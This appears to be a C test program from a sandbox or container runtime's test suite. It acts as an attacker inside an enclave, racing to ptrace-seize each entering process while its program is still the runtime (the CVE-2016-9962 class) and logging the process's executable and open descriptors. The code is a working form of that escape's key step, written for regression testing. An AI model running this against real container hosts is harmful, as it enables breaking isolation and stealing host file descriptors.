// An attacker inside an enclave: tries to trace every process that enters, while its program is
// still the runtime (the class of CVE-2016-9962).
//
//   seizer FOLDER [OWN...]
//
// Makes FOLDER/ready, and tries until FOLDER/stop exists. FOLDER/report then has a line "seized
// PROGRAM" with its descriptors for each process whose program was not one of the files OWN, and
// "done" last.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat own[16];
static int own_count;

static int is_own(const struct stat* info) {
  for (int i = 0; i < own_count; ++i)
    if (own[i].st_dev == info->st_dev && own[i].st_ino == info->st_ino) return 1;
  return 0;
}

static void tell(FILE* report, int pid) {
  char path[64], name[256];
  struct stat info;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (stat(path, &info) != 0 || is_own(&info)) return;
  ssize_t n = readlink(path, name, sizeof name - 1);
  name[n < 0 ? 0 : n] = '\0';
  fprintf(report, "seized %s:", name);
  for (int fd = 0; fd < 1024; ++fd) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    n = readlink(path, name, sizeof name - 1);
    if (n < 0) continue;
    name[n] = '\0';
    fprintf(report, " %d=%s", fd, name);
  }
  fprintf(report, "\n");
}

int main(int argc, char** argv) {
  if (argc < 2 || chdir(argv[1]) != 0) return 2;
  if (stat("/proc/self/exe", &own[0]) == 0) own_count = 1;
  for (int i = 2; i < argc && own_count < 16; ++i)
    if (stat(argv[i], &own[own_count]) == 0) ++own_count;
  FILE* report = fopen("report.new", "w");
  if (report == NULL) return 1;
  close(open("ready", O_WRONLY | O_CREAT, 0644));
  // Process numbers are given in turn; one that was seized, or is gone, makes room for the next.
  int next = 2;
  for (long round = 0; round % 64 != 0 || access("stop", F_OK) != 0; ++round) {
    for (int pid = next; pid < next + 3; ++pid) {
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        (void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        if (waitpid(pid, NULL, __WALL) == pid) tell(report, pid);
        (void)ptrace(PTRACE_DETACH, pid, 0, 0);
        next = pid + 1;
      }
    }
    if (round % 64 == 0) {
      char path[64];
      for (int pid = next + 20; pid > next; --pid) {
        snprintf(path, sizeof path, "/proc/%d", pid);
        if (access(path, F_OK) == 0) next = pid;
      }
    }
  }
  fprintf(report, "done\n");
  fclose(report);
  rename("report.new", "report");
  for (;;) pause();
}
